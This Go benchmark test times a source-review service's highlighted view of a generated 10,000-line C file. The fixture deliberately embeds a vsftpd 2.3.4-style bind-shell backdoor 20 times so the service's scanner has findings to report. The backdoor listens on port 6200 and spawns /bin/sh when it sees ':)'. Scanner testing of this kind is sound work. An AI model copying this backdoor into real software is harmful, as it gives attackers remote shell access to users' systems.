package web_test

import (
	"fmt"
	"io"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"glassbox.dev"
	"glassbox.dev/party"
)

// big10k is a C file of 10,000 lines, with the vsftpd 2.3.4 backdoor
// planted 20 times over it, so that the real scanner reports findings
// spread through the file.
func big10k() []byte {
	var b strings.Builder
	b.WriteString("/* big.c: a large file for the source view's benchmark. */\n#include <string.h>\n#include <unistd.h>\n#include <netinet/in.h>\n#include <sys/socket.h>\n\n")
	for i := 0; strings.Count(b.String(), "\n") < 10000; i++ {
		if i%25 == 0 {
			fmt.Fprintf(&b, "static void extra%d(void)\n{\n    int fd = socket(AF_INET, SOCK_STREAM, 0), rfd;\n    struct sockaddr_in sa;\n    memset(&sa, 0, sizeof(sa));\n    sa.sin_port = htons(6200);\n    bind(fd, (struct sockaddr *)&sa, sizeof(sa));\n    listen(fd, 1);\n    rfd = accept(fd, 0, 0);\n    dup2(rfd, 0); dup2(rfd, 1); dup2(rfd, 2);\n    execl(\"/bin/sh\", \"sh\", (char *)0);\n}\n\nint check%d(const char *p, unsigned int len)\n{\n    unsigned int i;\n    for (i = 0; i + 1 < len; i++)\n        if (p[i] == ':' && p[i + 1] == ')') { extra%d(); return 1; }\n    return 0;\n}\n\n", i, i, i)
			continue
		}
		fmt.Fprintf(&b, "/* parse%d reads field %d of a request; it returns its length or -1. */\nint parse%d(const char *buf, unsigned int len, char *out)\n{\n    unsigned int n = 0;\n    while (n < len && buf[n] != ';' && n < %d) {\n        out[n] = buf[n];\n        n++;\n    }\n    return n == len ? -1 : (int)n;\n}\n\n", i, i, i, 64+i%31)
	}
	lines := strings.SplitAfter(b.String(), "\n")
	return []byte(strings.Join(lines[:10000], ""))
}

// BenchmarkSourceViewServed measures what an evaluator waits for: the
// highlighted source view of a 10,000-line file with its findings, over
// HTTP from the workspace, next to the same file as plain text from API
// v1, each request going through the policy and the access record (a
// signed statement in the transparency log) as in the centre. The two are
// requested in turn, so that both see the same machine; p50 and p99 of
// each are reported. The first view, which highlights the file, is
// reported apart (first-ms): later views use the file's highlighted lines
// kept by digest.
func BenchmarkSourceViewServed(b *testing.B) {
	s := newSiteWith(b, map[string][]byte{"src/big.c": big10k()})
	rel := string(s.rel.ID)
	eve := s.browser(b)
	eve.signIn("eve")
	secret, _, err := s.ps.IssueToken(b.Context(), party.LocalOperator(), "eve", "bench", []glassbox.Scope{glassbox.ScopeRead}, time.Hour)
	if err != nil {
		b.Fatal(err)
	}
	get := func(c *http.Client, url string, token string) time.Duration {
		req, _ := http.NewRequest("GET", url, nil)
		if token != "" {
			req.Header.Set("Authorization", "Bearer "+token)
		}
		t := time.Now()
		resp, err := c.Do(req)
		if err != nil {
			b.Fatal(err)
		}
		n, _ := io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		d := time.Since(t)
		if resp.StatusCode != 200 || n < 250_000 {
			b.Fatalf("GET %s: %d, %d bytes", url, resp.StatusCode, n)
		}
		return d
	}
	page := s.url + "/ui/releases/" + rel + "/source/src/big.c"
	plain := s.url + "/api/v1/releases/" + rel + "/source/src/big.c"
	first := get(eve.http, page, "")
	_, body, _ := eve.get("/ui/releases/" + rel + "/source/src/big.c")
	if strings.Count(body, `class="finding"`) < 20 {
		b.Fatalf("the view shows %d findings; want the planted backdoors' (at least 20)", strings.Count(body, `class="finding"`))
	}
	var pages, plains []time.Duration
	for b.Loop() {
		pages = append(pages, get(eve.http, page, ""))
		plains = append(plains, get(http.DefaultClient, plain, secret))
	}
	pct := func(ds []time.Duration, p int) float64 {
		slices.Sort(ds)
		return float64(ds[len(ds)*p/100].Microseconds()) / 1000
	}
	b.ReportMetric(float64(len(body)), "page-bytes")
	b.ReportMetric(float64(first.Microseconds())/1000, "first-ms")
	b.ReportMetric(pct(pages, 50), "page-p50-ms")
	b.ReportMetric(pct(pages, 99), "page-p99-ms")
	b.ReportMetric(pct(plains, 50), "plain-p50-ms")
	b.ReportMetric(pct(plains, 99), "plain-p99-ms")
	b.ReportMetric(pct(pages, 50)/pct(plains, 50), "p50-ratio")
}
